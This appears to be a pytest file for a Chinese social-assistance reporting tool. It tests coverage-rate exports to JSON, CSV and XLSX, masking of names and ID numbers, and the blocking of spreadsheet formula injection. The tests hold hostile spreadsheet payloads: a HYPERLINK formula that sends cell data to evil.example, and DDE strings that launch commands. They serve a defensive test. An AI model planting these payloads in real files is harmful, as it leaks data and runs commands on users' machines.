"""JSON, CSV and XLSX exports: shapes, Chinese headers, BOM, masking and the 台账 layout."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook

from app.assets import load_target_list
from app.domain.codes import Category, NeedStatus
from app.domain.coverage import Breakdown, Caseload, coverage_by
from app.domain.identity import make_id_number, mask_id_number
from app.domain.indicators import evaluate, needs_fulfilment
from app.reports import (
    household_heads,
    indicators_csv,
    indicators_json,
    indicators_xlsx,
    mask_name,
    overdue_csv,
    report_csv,
    report_json,
    report_xlsx,
    write_file,
)
from app.reports.cells import FORMULA_STARTS
from app.reports.csvout import table_csv
from app.reports.files import ExportExists, new_file
from app.reports.masking import looks_masked, mask_record, masked_id
from app.reports.tables import Column, Kind, Table
from app.reports.xlsx import tables_xlsx
from tests.reports.builders import (
    ANDI_OTHER,
    NAMES,
    POLICY,
    YANTOU,
    household,
    member,
    need,
    visit,
)

D = date
ID_ZHANG = make_id_number("330702", D(1941, 3, 9), 123)
ID_OUYANG = make_id_number("330702", D(1950, 6, 1), 456)


@pytest.fixture
def world():
    """November 2026: four monthly households, one covered, three overdue.

    covered: visited Nov 4 (岩头村). never: 张三明's household, no visit ever (岩头村).
    stale: 欧阳小明's household, last visited Oct 12 (东村). two: 特困 and 低保, never
    visited, head 李四 (a spouse is listed first) (东村). Overall due 4, covered 1.
    """
    covered = household(Category.TEKUN, area=YANTOU)
    never = household(Category.TEKUN, area=YANTOU)
    stale = household(Category.ORPHAN, area=ANDI_OTHER)
    two = household(Category.TEKUN, Category.DIBAO, area=ANDI_OTHER)
    persons = [
        member(covered, name="王五"),
        member(never, name="张三明", id_number=ID_ZHANG),
        member(stale, name="欧阳小明", id_number=ID_OUYANG),
        member(two, name="赵六", relation="配偶"),
        member(two, name="李四"),
    ]
    visits = [visit(covered, D(2026, 11, 4)), visit(stale, D(2026, 10, 12))]
    caseload = Caseload([covered, never, stale, two], persons, visits)
    reports = coverage_by(caseload, "2026-11", [None, *Breakdown], policy=POLICY, names=NAMES)
    return {
        "reports": reports,
        "heads": household_heads(persons),
        "ids": (covered.id, never.id, stale.id, two.id),
        "caseload": caseload,
    }


@pytest.mark.parametrize(
    ("name", "masked"),
    [("张三明", "张*明"), ("张三", "张*"), ("欧阳小明", "欧**明"), ("王", "*"), ("", "")],
)
def test_mask_name(name, masked):
    assert mask_name(name) == masked


def test_household_head_is_the_member_marked_head(world):
    two = world["ids"][3]
    assert world["heads"][two].name == "李四"


def test_report_json_is_the_documented_shape(world):
    by_village = world["reports"][3]
    assert by_village.by == Breakdown.VILLAGE
    data = json.loads(report_json(by_village))
    assert data == by_village.to_json()
    assert set(data) == {"period", "overall", "rows", "overdue"}
    # due 4, covered 1 (only `covered` had a November visit), rate 1/4
    assert data["overall"] == {"due": 4, "covered": 1, "rate": 0.25}
    assert data["rows"] == [
        # 岩头村: covered (visited), never (not) → 1 of 2
        {"key": YANTOU, "name": "岩头村", "due": 2, "covered": 1, "rate": 0.5},
        # 东村: stale and two, neither visited in November → 0 of 2
        {"key": ANDI_OTHER, "name": "东村", "due": 2, "covered": 0, "rate": 0.0},
    ]
    _, never, stale, two = world["ids"]
    # Never visited first, then the oldest last visit.
    assert data["overdue"][0]["last_visit"] is None
    assert {o["household_id"] for o in data["overdue"][:2]} == {never, two}
    assert data["overdue"][2] == {"household_id": stale, "last_visit": "2026-10-12"}
    assert "岩头村" in report_json(by_village).decode("utf-8")  # not \\u-escaped


def test_report_csv_has_a_bom_chinese_headers_and_a_total_line(world):
    raw = report_csv(world["reports"][3])
    assert raw.startswith(b"\xef\xbb\xbf")
    lines = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert lines[0] == ["序号", "区划代码", "村（社区）", "应探访户数", "已探访户数", "探访关爱率"]
    assert lines[1] == ["1", YANTOU, "岩头村", "2", "1", "50.00%"]
    assert lines[2] == ["2", ANDI_OTHER, "东村", "2", "0", "0.00%"]
    assert lines[3] == ["合计", "", "", "4", "1", "25.00%"]


def test_overdue_csv_masks_names_and_id_numbers(world):
    raw = overdue_csv(world["reports"][0], world["heads"], NAMES)
    text = raw.decode("utf-8-sig")
    assert ID_ZHANG not in text and "张三明" not in text and "欧阳小明" not in text
    assert ID_ZHANG[:6] + "********" + ID_ZHANG[-4:] in text
    assert "张*明" in text and "欧**明" in text and "李*" in text
    header = next(csv.reader(io.StringIO(text)))
    assert header[:3] == ["序号", "户主姓名", "身份证号"]


def test_rate_is_left_empty_when_nothing_was_due():
    empty = coverage_by(Caseload([]), "2026-11", ["village"], policy=POLICY)[0]
    lines = list(csv.reader(io.StringIO(report_csv(empty).decode("utf-8-sig"))))
    assert lines[1] == ["合计", "", "", "0", "0", ""]
    assert json.loads(report_json(empty))["overall"] == {"due": 0, "covered": 0, "rate": None}


def test_xlsx_has_one_sheet_per_breakdown_and_the_overdue_list(world, tmp_path):
    data = report_xlsx(world["reports"], names=NAMES, heads=world["heads"])
    path = write_file(tmp_path / "coverage.xlsx", data)
    wb = load_workbook(path)
    assert wb.sheetnames == [
        "总体",
        "按县（市、区）",
        "按乡镇（街道）",
        "按村（社区）",
        "按责任人",
        "按队伍",
        "按类别",
        "逾期未探访名单",
    ]
    ws = wb["按村（社区）"]
    assert ws["A1"].value == "在册对象探访关爱率台账"
    assert "2026年11月（2026-11-01至2026-11-30）" in ws["A2"].value
    assert [c.value for c in ws[3]] == [
        "序号",
        "区划代码",
        "村（社区）",
        "应探访户数",
        "已探访户数",
        "探访关爱率",
    ]
    assert ws.freeze_panes == "A4"
    assert [c.value for c in ws[4]] == [1, YANTOU, "岩头村", 2, 1, 0.5]
    assert ws["B4"].data_type == "s"  # the 12-digit code stays text
    assert ws["F4"].number_format == "0.00%"
    assert [c.value for c in ws[6]] == ["合计", None, None, 4, 1, 0.25]
    assert ws.column_dimensions["C"].width >= 20
    # Category sheet: the two-category household counts in both rows; a note says so.
    cats = wb["按类别"]
    assert [(r[2].value, r[3].value, r[4].value) for r in cats.iter_rows(min_row=4, max_row=6)] == [
        ("特困供养", 3, 1),
        ("低保", 1, 0),
        ("孤儿", 1, 0),
    ]
    assert any("多个类别" in str(c.value) for row in cats.iter_rows() for c in row)


def test_xlsx_overdue_sheet_is_masked_throughout(world):
    wb = load_workbook(io.BytesIO(report_xlsx(world["reports"], names=NAMES, heads=world["heads"])))
    ws = wb["逾期未探访名单"]
    assert [c.value for c in ws[3]][:7] == [
        "序号",
        "户主姓名",
        "身份证号",
        "乡镇（街道）",
        "村（社区）",
        "责任人",
        "最近一次有效探访",
    ]
    body = [[c.value for c in row] for row in ws.iter_rows(min_row=4, max_row=6)]
    assert {row[1] for row in body} == {"张*明", "欧**明", "李*"}
    stale = next(row for row in body if row[1] == "欧**明")
    assert stale[2] == ID_OUYANG[:6] + "********" + ID_OUYANG[-4:]
    assert (stale[3], stale[4]) == ("安地镇", "东村")
    assert stale[6].date() == D(2026, 10, 12)
    every = " ".join(str(c.value) for s in wb.worksheets for row in s.iter_rows() for c in row)
    for secret in (ID_ZHANG, ID_OUYANG, "张三明", "欧阳小明", "李四"):
        assert secret not in every


def test_other_measures_export_with_their_own_headers(world):
    caseload = world["caseload"]
    h = next(iter(caseload.cases.values())).household
    caseload.needs.append(need(h, D(2026, 11, 2), NeedStatus.FULFILLED, D(2026, 11, 5)))
    report = needs_fulfilment(caseload, "2026-11", by="village", names=NAMES)
    data = json.loads(report_json(report))
    assert data["indicator"] == "reasonable_needs_fulfilled"
    assert data["overall"] == {"reasonable": 1, "fulfilled": 1, "rate": 1.0}
    header = report_csv(report).decode("utf-8-sig").splitlines()[0]
    assert header == "序号,区划代码,村（社区）,合理需求数,已兑现数,兑现率"
    wb = load_workbook(io.BytesIO(report_xlsx(report)))
    assert wb.sheetnames == ["按村（社区）"]
    assert wb.active["A1"].value == "困难群众合理需求兑现率台账"


def test_indicator_exports(tmp_path):
    results = evaluate(
        load_target_list(),
        2026,
        {"visit_coverage": 97.5, "wishes_fulfilled": 5200.0},
        {"dibao_standard": 15000.0},
    )
    data = json.loads(indicators_json(results, 2026))
    assert data["year"] == 2026 and len(data["indicators"]) == 20
    first = data["indicators"][19]
    assert first["name"] == "在册对象探访关爱率" and first["status"] == "not_met"
    lines = list(csv.reader(io.StringIO(indicators_csv(results, 2026).decode("utf-8-sig"))))
    assert lines[0] == [
        "序号",
        "类别",
        "指标",
        "单位",
        "2024年目标",
        "2025年目标",
        "2026年目标",
        "2026年实际值",
        "数据来源",
        "完成情况",
    ]
    assert lines[20] == [
        "20",
        "服务供给",
        "在册对象探访关爱率",
        "%",
        "≥100",
        "≥100",
        "≥100",
        "97.5",
        "系统统计",
        "未达标",
    ]
    wb = load_workbook(io.BytesIO(indicators_xlsx(results, 2026)))
    ws = wb["目标清单"]
    assert ws["A1"].value == "政府救助和慈善帮扶融合发展三年目标清单（2026年完成情况）"
    fills = {
        ws.cell(row=r, column=3).value: ws.cell(row=r, column=10).fill.fgColor.rgb
        for r in range(4, 24)
    }
    assert fills["微心愿化解数量"].endswith("C6EFCE")  # met: green
    assert fills["在册对象探访关爱率"].endswith("FFC7CE")  # not met: red
    assert fills["慈善组织累计数"].endswith("EDEDED")  # no data: grey
    assert ws.cell(row=4, column=8).value == "—"  # no value entered for indicator 1


# --- formula injection (公式注入) ---------------------------------------------------------

LINK = '=HYPERLINK("http://evil.example/?d="&C5,"点击查看详情")'
PAYLOADS = (LINK, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0")


def _runs(text: str) -> bool:
    """Whether a spreadsheet opening this CSV text would run it: a formula start, not a number."""
    if not text.startswith(FORMULA_STARTS):
        return False
    try:
        float(text.rstrip("%"))
    except ValueError:
        return True
    return False


@pytest.fixture
def hostile(world):
    """The world's reports with a village, a worker and household heads named like formulas."""
    names = {**NAMES, YANTOU: PAYLOADS[0], ANDI_OTHER: PAYLOADS[1], "w-li": PAYLOADS[2]}
    reports = coverage_by(
        world["caseload"], "2026-11", [None, *Breakdown], policy=POLICY, names=names
    )
    heads = {hid: p.model_copy(update={"name": PAYLOADS[3]}) for hid, p in world["heads"].items()}
    return reports, names, heads


def test_no_csv_cell_can_run_as_a_formula(hostile):
    reports, names, heads = hostile
    texts = [report_csv(r, names).decode("utf-8-sig") for r in reports]
    texts.append(overdue_csv(reports[0], heads, names).decode("utf-8-sig"))
    cells = [c for text in texts for row in csv.reader(io.StringIO(text)) for c in row]
    assert [c for c in cells if _runs(c)] == []
    assert "'" + LINK in cells and "'" + PAYLOADS[1] in cells  # shown as typed, after a '
    assert any(c.startswith("'@*") for c in cells)  # a masked head keeps its first character


def test_no_xlsx_cell_is_a_formula_and_each_reads_as_typed(hostile):
    reports, names, heads = hostile
    data = report_xlsx(reports, names=names, heads=heads)
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
        assert all(b"<f>" not in book.read(n) and b"<f " not in book.read(n) for n in sheets)
    wb = load_workbook(io.BytesIO(data))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    link = next(c for c in cells if c.value == LINK)  # the text itself, no apostrophe added
    assert link.data_type == "s" and link.quotePrefix  # stays text when edited in Excel
    assert any(c.value == PAYLOADS[2] and c.quotePrefix for c in cells)


def test_numbers_stay_numbers_and_plain_text_is_untouched():
    table = Table(
        "表",
        "标题",
        "副标题",
        (Column("名称"), Column("差额", Kind.NUMBER), Column("户数", Kind.COUNT)),
        [("-50", -50.0, -3), ("-", None, 0), ("岩头村", 12.5, 4)],
    )
    rows = list(csv.reader(io.StringIO(table_csv(table).decode("utf-8-sig"))))
    assert rows[1:] == [["-50", "-50", "-3"], ["-", "", "0"], ["岩头村", "12.5", "4"]]
    ws = load_workbook(io.BytesIO(tables_xlsx([table]))).active
    assert [c.value for c in ws[4]] == ["-50", -50, -3]
    assert (ws["B4"].data_type, ws["C4"].data_type) == ("n", "n")
    assert not any(c.quotePrefix for row in ws.iter_rows() for c in row)


# --- export files ----------------------------------------------------------------------------


def test_an_export_file_is_new_0600_and_whole_or_absent(tmp_path):
    path = write_file(tmp_path / "coverage.csv", b"a,b\r\n")
    assert path.stat().st_mode & 0o777 == 0o600
    with pytest.raises(ExportExists, match="已存在"):
        write_file(path, b"other")
    assert path.read_bytes() == b"a,b\r\n"
    broken = tmp_path / "broken.csv"
    with pytest.raises(RuntimeError), new_file(broken) as fh:
        fh.write(b"half")
        raise RuntimeError("the export failed half way")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["coverage.csv"]


def test_every_masking_path_shows_an_id_number_alike_and_hides_the_birth_date(world):
    """The screens (identity.mask_id_number), the overdue list and the JSON Lines export."""
    shown = mask_id_number(ID_OUYANG)
    assert shown == ID_OUYANG[:6] + "********" + ID_OUYANG[-4:]
    assert masked_id(ID_OUYANG) == shown
    overdue = overdue_csv(world["reports"][0], world["heads"], NAMES).decode("utf-8-sig")
    assert shown in overdue
    line = mask_record(
        {"type": "person", "id": "x", "id_number": ID_OUYANG, "birth_date": "1950-06-01"}
    )
    assert (line["id_number"], line["birth_date"], line["masked"]) == (shown, "****-**-**", True)
    assert "1950" not in json.dumps(line) and looks_masked(line)
